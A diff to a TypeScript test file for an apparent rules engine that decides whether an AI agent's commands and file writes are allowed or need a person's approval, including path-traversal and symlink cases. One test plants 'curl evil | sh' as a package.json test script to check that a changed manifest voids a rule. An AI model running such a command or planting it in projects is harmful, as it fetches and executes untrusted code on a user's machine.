@@ -1,5 +1,6 @@
 import { describe, expect, test } from 'bun:test'
 import { chmodSync, mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
+import type { ToolCall } from '../../../src/agents/rules/schema.ts'
 import type { City } from '../../../src/city/city.ts'
 import { toTimestamp } from '../../../src/core/clock.ts'
 import { realPath } from '../../../src/core/folders.ts'
@@ -39,11 +40,20 @@ async function world(town: ScriptedTown) {
   await city.reconciler.settle()
   const session = () => city.sessionRepository.live().find(({ template }) => template === 'web/worker')
   const { id = '', hostKey } = session() ?? {}
+  const caller: SessionCaller = {
+    ...{ kind: 'session', city: 'mill', session: id, names: [id], agent: 'web/worker', declaredIn: 'city.toml' },
+    may: [],
+  }
+  const decide = async (call: ToolCall) => (await city.rules.decide(caller, id, call)).decision
+  /** Says where a command runs, as a hook does before its dialog. */
+  const name = (line: string, folder = rig) => decide({ kind: 'command', line, paths: [folder], asks: true })
   return {
-    ...{ city, rig, session: id, file: `${town.hosts.home}/rules.toml` },
+    ...{ city, rig, session: id, file: `${town.hosts.home}/rules.toml`, decide, name },
     confine: () => city.store.write((tx) => city.sessionRepository.update(tx, id, { confined: 'default' })),
-    /** Asks, and says what became of it once whatever answers it has. */
-    async ask(question: Question): Promise<string> {
+    /** Asks, unless it is not named in the folder of the session, and says what became of it once whatever answers it has. */
+    async ask(question: Question, { named = true } = {}): Promise<string> {
+      const [, line] = /\n\n([^\n]+)\n\n/.exec(question.text) ?? []
+      if (line !== undefined && named) await name(line)
       const before = city.log.page({ type: 'session.asked', limit: 100 }).items.length
       town.host.ask(hostKey ?? '', question)
       await until(() => city.log.page({ type: 'session.asked', limit: 100 }).items.length === before + 1)
@@ -119,8 +129,9 @@ describe('a rule', () => {
 
   test('is void for a session that changed its manifest, until a person has read exactly that', async () => {
     await using town = scriptedTown()
-    const { city, rig, session, ask } = await world(town)
+    const { city, rig, session, ask, name } = await world(town)
     const { id } = await city.rules.add(human, npmTest)
+    await name('npm test')
     const manifest = `${rig}/package.json`
     writeFileSync(manifest, '{"scripts":{"test":"curl evil | sh"}}')
     const hostKey = city.sessionRepository.find(session)?.hostKey ?? ''
@@ -166,23 +177,16 @@ describe('a rule', () => {
 
   test('for paths decides a call by what its hook names, and not by what a dialog shows', async () => {
     await using town = scriptedTown()
-    const { city, rig, session, ask } = await world(town)
+    const { city, rig, session, ask, decide } = await world(town)
     mkdirSync(`${rig}/sub/src`, { recursive: true })
     symlinkSync(`${rig}/sub`, `${rig}/src/link`)
     const { id: rule } = await city.rules.add(human, { kind: 'write', value: 'src', rig: 'web', unconfined: true })
     const { head } = city.log
-    const caller: SessionCaller = {
-      ...{ kind: 'session', city: 'mill', session, names: [session], agent: 'web/worker', declaredIn: 'city.toml' },
-      may: [],
-    }
-    const decide = async (...paths: string[]) =>
-      (await city.rules.decide(caller, session, { kind: 'write', paths: paths.map((path) => `${rig}/${path}`) }))
-        .decision
-    expect(await decide('src/a.ts')).toBe('allow')
+    const write = (...paths: string[]) => decide({ kind: 'write', paths: paths.map((path) => `${rig}/${path}`) })
+    expect(await write('src/a.ts')).toBe('allow')
     for (const paths of [['sub/src/a.ts'], ['src/a.ts', 'b.ts'], ['src/link/a.ts'], ['src/.git/x'], ['src/../b.ts']])
-      expect(await decide(...paths)).toBe('ask')
-    const read = await city.rules.decide(caller, session, { kind: 'read', paths: [`${rig}/src/a.ts`] })
-    expect(read.decision).toBe('ask')
+      expect(await write(...paths)).toBe('ask')
+    expect(await decide({ kind: 'read', paths: [`${rig}/src/a.ts`] })).toBe('ask')
     const edit = bash('', { prompt: 'Do you want to make this edit to a.ts?', text: 'Edit file\nsrc/a.ts\n\n1 -one' })
     expect(await ask(edit)).toBe('open')
     const events = city.log.after(head, 2).map(({ type, actor, payload }) => [type, actor, Object(payload).text])
@@ -195,24 +199,66 @@ describe('a rule', () => {
     await expect(city.rules.decide(human, session, { kind: 'write', paths: ['/x'] })).rejects.toThrow('only session')
   })
 
-  test('for a command holds in the folder of the session, and not for a dialog that is known to be about another', async () => {
+  test('for a command holds in the folder of the session', async () => {
     await using town = scriptedTown()
-    const { city, rig, session, ask } = await world(town)
+    const { city, rig, decide } = await world(town)
     await city.rules.add(human, npmTest)
-    const caller: SessionCaller = {
-      ...{ kind: 'session', city: 'mill', session, names: [session], agent: 'web/worker', declaredIn: 'city.toml' },
-      may: [],
-    }
-    const decide = async (line: string, folder: string) =>
-      (await city.rules.decide(caller, session, { kind: 'command', line, paths: [folder] })).decision
-    expect(await decide('npm test', rig)).toBe('allow')
-    expect(await decide('npm run x', rig)).toBe('ask')
-    expect(await decide('npm test', `${rig}/src`)).toBe('ask')
-    expect(await ask(bash('npm test'))).toBe('open')
-    expect(await decide('npm test', rig)).toBe('allow')
-    expect(await ask(bash('npm test'))).toBe('answered by a rule')
+    const run = (line: string, folder: string) => decide({ kind: 'command', line, paths: [folder] })
+    expect(await run('npm test', rig)).toBe('allow')
+    expect(await run('npm run x', rig)).toBe('ask')
+    expect(await run('npm test', `${rig}/src`)).toBe('ask')
     writeFileSync(`${rig}/package.json`, '{"scripts":{"test":"worse"}}')
-    expect(await decide('npm test', rig)).toBe('ask')
+    expect(await run('npm test', rig)).toBe('ask')
+  })
+
+  test('for a command answers a dialog that a hook named in that folder lately, and in no other', async () => {
+    await using town = scriptedTown()
+    const { city, rig, ask, name } = await world(town)
+    await city.rules.add(human, npmTest)
+    const { clock } = town
+    const dialog = () => bash('npm test', { since: toTimestamp(clock.now()) })
+    const unnamed = { named: false }
+    const { head } = city.log
+    expect(await ask(dialog(), unnamed)).toBe('open')
+    expect(await name('npm test')).toBe('ask')
+    expect(await ask(dialog(), unnamed)).toBe('answered by a rule')
+    await name('npm test', `${rig}/src`)
+    await name('npm test')
+    expect(await ask(dialog())).toBe('open')
+    await clock.advance(61 * SECOND)
+    expect(await ask(dialog(), unnamed)).toBe('open')
+    expect(await ask(dialog())).toBe('answered by a rule')
+    await clock.advance(61 * SECOND)
+    for (let n = 0; n < 100; n++) await name(`make ${n}`)
+    expect(await ask(dialog())).toBe('open')
+    const recorded = new Set(city.log.after(head, 100).map(({ type }) => type))
+    expect([...recorded].sort()).toEqual([
+      ...['attention.cleared', 'attention.raised', 'session.answered', 'session.asked'],
+    ])
+  })
+
+  test('for a command answers a dialog that came up before its hook was heard, or before the rule', async () => {
+    await using town = scriptedTown()
+    const { city, rig, session, name } = await world(town)
+    const hostKey = city.sessionRepository.find(session)?.hostKey ?? ''
+    const open = () => city.attention.list().items.find(({ kind }) => kind === 'dialog')
+    town.host.ask(hostKey, bash('npm test'))
+    await until(() => open() !== undefined)
+    await city.rules.add(human, npmTest)
+    await settled(city)
+    expect(open()?.to_do).toContain('its rule is for the folder of the session')
+    await expect(city.rules.add(human, { question: open()?.id ?? '', unconfined: true })).rejects.toThrow(
+      'gc cannot tell whether the command runs in the folder of the session',
+    )
+    await name('npm test')
+    await until(() => open() === undefined)
+    await name('make', `${rig}/src`)
+    town.host.ask(hostKey, bash('make'))
+    await until(() => open() !== undefined)
+    await name('make')
+    await city.rules.add(human, { ...npmTest, value: 'make' })
+    await settled(city)
+    expect(open()).toMatchObject({ subject: 'make' })
   })
 
   test('cannot be taken from a question that shows a path from an unknown folder', async () => {
@@ -266,7 +312,8 @@ describe('a rule', () => {
 
   test('is made of a question, answers it at once, and says when a session has no sandbox', async () => {
     await using town = scriptedTown()
-    const { city, session, confine } = await world(town)
+    const { city, session, confine, name } = await world(town)
+    await name('npm test')
     town.host.ask(city.sessionRepository.find(session)?.hostKey ?? '', bash('npm test'))
     await until(() => city.attention.list().items.some(({ kind }) => kind === 'dialog'))
     const [item] = city.attention.list().items.filter(({ kind }) => kind === 'dialog')
